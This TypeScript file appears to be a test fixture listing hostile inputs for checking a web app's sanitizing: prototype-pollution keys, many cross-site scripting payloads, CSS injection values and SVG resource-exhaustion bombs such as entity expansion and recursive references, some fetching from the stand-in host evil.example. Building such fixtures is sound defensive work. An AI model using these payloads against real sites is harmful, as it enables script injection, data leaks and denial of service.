/** What somebody might hand in who means no good, or whose program is broken; ours, and general: nothing in it knows how the app works. */

/** Names that every object has an entry for, or that lead to one. */
export const NAMES: readonly string[] = [
  '__proto__', '__proto__/then', '__proto__/__proto__/x', 'constructor', 'constructor/prototype/x', 'constructor / prototype', 'prototype', 'toString',
  'valueOf', 'hasOwnProperty', 'isPrototypeOf', 'propertyIsEnumerable', 'toLocaleString', '__defineGetter__', '__defineSetter__', '__lookupGetter__',
  '__proto__.polluted', 'then', '$value', '$type', '$root', '$extensions', 'a/$value', '{constructor}', '{__proto__}', '..', '../../x', '/', '//', 'a/', '/a',
  '\u0000', '\u202e evil', '\ud800', 'ﬁ', '﷽'.repeat(20), 'x'.repeat(80)
];

/** Markup that tries to run, to fetch, to leave its place, or to be more than it looks. */
const MARKUP: readonly string[] = [
  '<script>hacked()</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<script/x>hacked()</script>', '<scr<script>ipt>hacked()</scr</script>ipt>',
  '<img src=x onerror=hacked()>', '<img src=x onerror="hacked()"//', '<img/src/onerror=hacked()>', '<IMG """><SCRIPT>hacked()</SCRIPT>">', '<img src=`x`onerror=hacked()>',
  '<svg onload=hacked()>', '<svg><script>hacked()</script></svg>', '<svg><script href="data:,hacked()"/></svg>', '<svg><animate onbegin=hacked() attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:hacked() /><a><text>x</text></a></svg>', '<svg><foreignObject><iframe srcdoc="<script>hacked()</script>"></iframe></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=hacked()>#x"/></svg>', '<svg><image href=x onerror=hacked() /></svg>', '<svg><style>@import "//evil.example/x"</style></svg>',
  '<math><mi xlink:href="javascript:hacked()">x</mi></math>', '<math><annotation-xml encoding="text/html"><img src=x onerror=hacked()></annotation-xml></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hacked()&gt;">', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hacked()>',
  '<a href="javascript:hacked()">x</a>', '<a href=" javascript:hacked()">x</a>', '<a href="java\nscript:hacked()">x</a>', '<a href="java&Tab;script:hacked()">x</a>',
  '<a href="&#106;avascript:hacked()">x</a>', '<a href="JaVaScRiPt:hacked()">x</a>', '<a href="\u0001javascript:hacked()">x</a>', '<a href="vbscript:hacked()">x</a>',
  '<a href="data:text/html,<script>hacked()</script>">x</a>', '<a href="//evil.example">x</a>', '<a href="\\\\evil.example">x</a>', '<a href="https:evil.example">x</a>', '<a href="blob:x">x</a>',
  '<a href="file:///etc/passwd">x</a>', '<a ping="//evil.example" href="#">x</a>', '<a target=_blank href="https://evil.example">x</a>', '<a onclick=hacked() href="#">x</a>',
  '<iframe src="javascript:hacked()"></iframe>', '<iframe srcdoc="<script>parent.hacked()</script>"></iframe>', '<object data="javascript:hacked()"></object>', '<embed src="javascript:hacked()">',
  '<applet code=x></applet>', '<base href="//evil.example/">', '<link rel=stylesheet href="//evil.example/x.css">', '<link rel=preload as=script href="//evil.example/x.js">',
  '<meta http-equiv=refresh content="0;url=//evil.example">', '<meta http-equiv="Content-Security-Policy" content="script-src *">', '<style>*{background:url(//evil.example)}</style>',
  '<p style="background:url(//evil.example)">x</p>', '<p style="position:fixed;inset:0">x</p>', '<p onmouseover=hacked()>x</p>', '<p onfocus=hacked() tabindex=0 autofocus>x</p>',
  '<details open ontoggle=hacked()><summary>x</summary></details>', '<video><source onerror=hacked()></video>', '<audio src=x onerror=hacked()></audio>', '<input autofocus onfocus=hacked()>',
  '<select onfocus=hacked() autofocus><option>x</select>', '<textarea autofocus onfocus=hacked()>x</textarea>', '<button formaction="javascript:hacked()">x</button>', '<form action="javascript:hacked()"><button>x</button></form>',
  '<isindex action="javascript:hacked()" type=submit>', '<marquee onstart=hacked()>x</marquee>', '<body onload=hacked()>', '<html onmouseenter=hacked()>', '<frameset onload=hacked()>',
  '<dialog open onclose=hacked()>x</dialog>', '<p popover id=x onbeforetoggle=hacked()>x</p>', '<template><script>hacked()</script></template>', '<template shadowrootmode=open><script>hacked()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=hacked()>"></noscript>', '<title><img src=x onerror=hacked()></title>', '<textarea></textarea><script>hacked()</script>', '<xmp><script>hacked()</script></xmp>',
  '<plaintext><script>hacked()</script>', '<!--><script>hacked()</script>-->', '<!--!> <img src=x onerror=hacked()> -->', '<![CDATA[<script>hacked()</script>]]>', '<?xml-stylesheet href="javascript:hacked()"?>',
  '<p id="__proto__">x</p>', '<p name="constructor" class="bx--modal is-visible">x</p>', '<slot name="x"></slot>', '<k-slot data-for="page"></k-slot>', '<p data-k="page" data-k-part="root">x</p>',
  '</p></div></body></html><script>hacked()</script>', '<p>never closed <em>at all', '<p><p><p><table><tr><td><p>', '<<<>>>', '&#x3c;script&#x3e;hacked()', '<p>\u0000<scr\u0000ipt>hacked()</scr\u0000ipt>',
  '<p lang="x\' onfocus=hacked()">x</p>', '<em/onclick=hacked()>x</em>', '<ul><script>hacked()</script><li>x</ul>', '<custom-element onclick=hacked()>x</custom-element>'
];

const AROUND: readonly ((markup: string) => string)[] = [(markup) => markup, (markup) => `<p>Words ${markup} more words</p>`, (markup) => `<ul><li>${markup}</li></ul>`, (markup) => `<svg>${markup}</svg>`];

/** Each piece of markup by itself, in a paragraph, in a list and in a drawing. */
export const HTML: readonly string[] = MARKUP.flatMap((markup) => AROUND.map((around) => around(markup)));

/** Values that try to end their declaration, to fetch, to run, or to take time. */
export const CSS: readonly string[] = [
  'red; background: url(//evil.example)', 'red } body { display: none', 'red}', '{', '}', ';', 'red/**/', '/*', '*/', 'red/*', 'url(//evil.example)', 'URL(x)', 'image-set("x" 1x)', 'src("x")',
  '-webkit-image-set(url(x) 1x)', 'image("x")', 'expression(hacked())', 'javascript:hacked()', '\\75 rl(x)', 'u\\72l(x)', '\\', '"', "'", '"x', "'x\\", 'rgb(', 'rgb(1 2 3', 'rgb((1 2 3)', 'calc(', 'calc(1px + (',
  'calc'.padEnd(400, '('), '('.repeat(250), `${'('.repeat(200)}1px${')'.repeat(200)}`, 'var(', 'var(--x', 'var(--x,', 'env(x', 'attr(x)', '<!--', '-->', '</style>', '<script>', '\u0000', '\u2028', 'red\n}', 'red\f}',
  '@import "x"', '!important', 'red !important', 'inherit;', 'x'.repeat(600), '1e999px', '-1e-999px', 'NaNpx', 'Infinity', '{constructor}', '{__proto__}', '{a.b}', '{', '{}', 'constructor', 'toString', 'linear(', 'spring(', 'spring(NaN)', 'cubic-bezier(1,2,3'
];

/** Drawings that try to run, to fetch, or to be drawn for ever. */
export const SVG: readonly string[] = [
  ...MARKUP.filter((markup) => /svg|script|img|style|iframe/i.test(markup)).map((markup) => `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">${markup}<path d="M0 0h9"/></svg>`),
  '<svg><g>'.repeat(3000), `<svg>${'<g>'.repeat(60_000)}`, `<svg>${'<a>'.repeat(5000)}</svg>`, '<svg><g id="a"><use href="#a"/></g></svg>',
  `<svg>${Array.from({ length: 40 }, (_, n) => `<g id="g${n + 1}"><use href="#g${n}"/><use href="#g${n}"/></g>`).join('')}<use href="#g40"/></svg>`,
  `<svg>${Array.from({ length: 40 }, (_, n) => `<pattern id="p${n + 1}"><rect fill="url(#p${n})"/><rect fill="url(#p${n})"/></pattern>`).join('')}<rect fill="url(#p40)"/></svg>`,
  `<svg><text>${'x'.repeat(1_000_000)}</text></svg>`, `<svg>${'<path d="M0 0"/>'.repeat(80_000)}</svg>`, `<svg ${'a="b" '.repeat(20_000)}/>`, `<svg><path d="${'M0 0'.repeat(100_000)}"/></svg>`,
  '<svg width="1e999" height="-1"/>', '<svg viewBox="0 0 NaN NaN"/>', '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]><svg>&b;</svg>', '<?xml version="1.0"?><?xml-stylesheet href="//evil.example"?><svg/>',
  '<svg></svg><script>hacked()</script>', '<svg/onload=hacked()>', '<svg>', '<svg', 'svg', '<svg><!--', `<svg>${'<!--x-->'.repeat(30_000)}</svg>`
];
